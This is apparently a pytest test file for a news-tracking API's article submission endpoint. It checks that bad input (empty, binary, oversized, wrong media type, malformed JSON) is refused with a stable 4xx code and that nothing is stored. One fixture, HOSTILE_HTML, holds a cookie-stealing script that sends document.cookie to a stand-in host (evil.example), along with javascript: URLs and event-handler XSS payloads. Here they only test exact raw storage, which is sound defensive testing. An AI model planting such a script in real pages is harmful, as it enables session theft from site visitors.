"""Bad input at the submission endpoint: a clear 4xx with a stable code, and nothing written.

Each refused case checks the error shape (``{"error": {"code", "message", "fields"}}``)
and that no article, record, actor or official was added. Input that is odd but
legitimate (hostile HTML, very deep nesting) is accepted and stored exactly as sent.
"""

from __future__ import annotations

import json
import os

import pytest

from tracker.models import Actor, Article, Official, OfficialMention, Statement, Transfer

pytestmark = pytest.mark.django_db

URL = "/api/articles/"
MB2 = 2 * 1024 * 1024


def _row_counts() -> tuple[int, ...]:
    return tuple(m.objects.count() for m in (Article, Transfer, Statement, Official, OfficialMention, Actor))


@pytest.fixture
def nothing_written():
    """Asserts, after the test, that no table the tracker writes to has grown."""
    before = _row_counts()
    yield
    assert _row_counts() == before


def _refused(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    error = response.json()["error"]
    assert error["code"] == code, error
    assert error["message"]
    return error


def test_the_size_limit_is_two_megabytes_by_default(settings):
    assert settings.ARTICLE_MAX_BYTES == MB2


# (body, content type, status, code): refused before anything is stored.
REFUSED = {
    "empty-body": (b"", "text/plain", 400, "invalid"),
    "whitespace-only": (b" \n\t\r\n   ", "text/plain", 400, "empty"),
    "unicode-whitespace-only": ("\u2003\u00a0\u3000\n".encode(), "text/plain; charset=utf-8", 400, "empty"),
    "invalid-utf8": (b"Russia will supply caf\xe9 tanks.", "text/plain", 400, "parse_error"),
    "truncated-utf8": (b"Russia will supply \xe2\x82", "text/plain; charset=utf-8", 400, "parse_error"),
    "unknown-charset": (b"Russia will supply tanks.", "text/plain; charset=x-no-such", 400, "parse_error"),
    "nul-byte": (b"Russia will supply\x00 tanks to India.", "text/plain", 400, "binary_content"),
    "nul-in-html": (b"<p>Russia\x00 will supply tanks.</p>", "text/html", 400, "binary_content"),
    "control-characters": (bytes(range(1, 9)) * 3 + b"Russia", "text/plain", 400, "binary_content"),
    "binary-png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "text/plain", 400, "parse_error"),
    "digits-and-punctuation-only": (b"12 345 -- 678 !!! ... ### 2024-01-01", "text/plain", 400, "no_text"),
    "pdf": (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "application/pdf", 415, "unsupported_media_type"),
    "octet-stream": (b"Russia will supply tanks.", "application/octet-stream", 415, "unsupported_media_type"),
    "form-data": (b"text=Russia+will+supply+tanks.", "application/x-www-form-urlencoded", 415,
                  "unsupported_media_type"),
    "xml": (b"<?xml version='1.0'?><a>Russia</a>", "application/xml", 415, "unsupported_media_type"),
    "malformed-json": (b'{"text": "Russia will', "application/json", 400, "parse_error"),
    "json-array": (b'["Russia will supply tanks."]', "application/json", 400, "invalid"),
    "json-text-not-a-string": (b'{"text": ["Russia"]}', "application/json", 400, "invalid"),
    "json-text-missing": (b'{"url": "https://example.org/a"}', "application/json", 400, "invalid"),
    "json-nul": (json.dumps({"text": "Russia\u0000 will supply tanks."}).encode(), "application/json", 400,
                 "binary_content"),
    "json-lone-surrogate": (b'{"text": "Russia \\ud800 will supply tanks."}', "application/json", 400,
                            "invalid"),
    "json-whitespace": (b'{"text": "  \\n\\t "}', "application/json", 400, "empty"),
    "json-bad-url": (b'{"text": "Russia will supply tanks.", "url": "not a url"}', "application/json", 400,
                     "invalid"),
    "json-unknown-content-type": (b'{"text": "Russia will supply tanks.", "content_type": "application/pdf"}',
                                  "application/json", 400, "invalid"),
}


@pytest.mark.parametrize(("body", "content_type", "status", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_bad_input_is_refused_clearly_and_nothing_is_written(api, nothing_written, body, content_type, status, code):
    _refused(api.post(URL, body, content_type=content_type), status, code)


def test_random_binary_data_is_refused(api, nothing_written):
    for seed in range(5):
        body = os.urandom(4096)
        response = api.post(URL, body, content_type="text/plain")
        assert response.status_code == 400, response.content[:300]
        assert response.json()["error"]["code"] in {"parse_error", "binary_content"}


def test_field_errors_name_the_field(api, nothing_written):
    error = _refused(api.post(URL, {"text": "Russia will supply tanks.", "url": "ftp:/x"}, format="json"), 400,
                     "invalid")
    assert "url" in error["fields"]


@pytest.mark.parametrize("content_type", ["text/plain", "text/html"])
def test_a_body_one_byte_over_the_limit_is_413(api, nothing_written, content_type):
    body = b"a" * MB2 + b"b"
    _refused(api.post(URL, body, content_type=content_type), 413, "too_large")


def test_json_text_over_the_limit_is_413(api, nothing_written):
    # The JSON body is within the transport allowance; the text itself is not.
    body = json.dumps({"text": "a" * (MB2 + 1)}).encode()
    _refused(api.post(URL, body, content_type="application/json"), 413, "too_large")


def test_a_huge_declared_length_is_refused_before_reading(api, nothing_written):
    response = api.generic("POST", URL, b"Russia will supply tanks.", content_type="text/plain",
                           CONTENT_LENGTH=str(50 * 1024 * 1024))
    _refused(response, 413, "too_large")


def test_multibyte_text_is_measured_in_bytes(api, nothing_written):
    # 700,000 three-byte characters: 2.1 MB of UTF-8 in fewer than 2 M characters.
    body = ("\u20ac" * 700_000).encode()
    assert len(body) > MB2 > 700_000
    _refused(api.post(URL, body, content_type="text/plain; charset=utf-8"), 413, "too_large")


def test_one_five_million_character_line_is_413_with_the_default_limit(api, nothing_written):
    _refused(api.post(URL, b"x" * 5_000_000, content_type="text/plain"), 413, "too_large")


def test_a_body_exactly_at_the_limit_is_accepted_and_stored_whole(api):
    body = (b"Russia will supply tanks to India. " * (MB2 // 35 + 1))[:MB2]
    response = api.post(URL, body, content_type="text/plain")
    assert response.status_code == 202, response.content[:300]
    assert len(Article.objects.get(pk=response.json()["id"]).raw.encode()) == MB2


def test_the_limit_is_a_setting(api, settings, nothing_written):
    settings.ARTICLE_MAX_BYTES = 100
    _refused(api.post(URL, b"Russia will supply tanks. " * 5, content_type="text/plain"), 413, "too_large")


HOSTILE_HTML = (
    "<!doctype html><html><head><title>Tanks</title>"
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'></head>"
    "<body onload=\"alert('body')\"><iframe src=\"javascript:alert('frame')\"></iframe>"
    "<h1>Russia to supply tanks</h1>"
    "<p onclick=\"alert('p')\">Russia will supply T-90 tanks to India, the ministry said.</p>"
    "<img src=x onerror=\"alert('img')\"><svg onload=alert(1)></svg>"
    "<a href=\"javascript:alert('a')\">more</a></body></html>"
)


def test_html_with_scripts_iframes_and_handlers_is_stored_exactly(api):
    response = api.post(URL, HOSTILE_HTML.encode(), content_type="text/html; charset=utf-8")
    assert response.status_code == 202, response.content[:300]
    article = Article.objects.get(pk=response.json()["id"])
    assert article.raw == HOSTILE_HTML
    assert article.content_type == "text/html"
    assert article.status == "queued"


def test_html_nested_ten_thousand_deep_is_accepted(api):
    html = "<div>" * 10_000 + "Russia will supply tanks to India, the ministry said." + "</div>" * 10_000
    response = api.post(URL, html.encode(), content_type="text/html")
    assert response.status_code == 202, response.content[:300]
    assert Article.objects.get(pk=response.json()["id"]).raw == html



@pytest.mark.parametrize(
    ("path", "param"),
    [
        ("/api/relations/", "supplier"),
        ("/api/relations/", "recipient"),
        ("/api/transfers/", "supplier"),
        ("/api/transfers/", "weapon"),
        ("/api/statements/", "speaker"),
        ("/api/statements/", "search"),
        ("/api/articles/", "source"),
        ("/api/actors/", "q"),
        ("/api/officials/", "name"),
    ],
)
def test_a_nul_in_a_query_parameter_is_a_4xx_not_a_5xx(reader, path, param):
    from tests.conftest import client_for

    response = client_for(reader).get(path, {param: "Russia\x00"})
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    assert response.json()["error"]["code"]
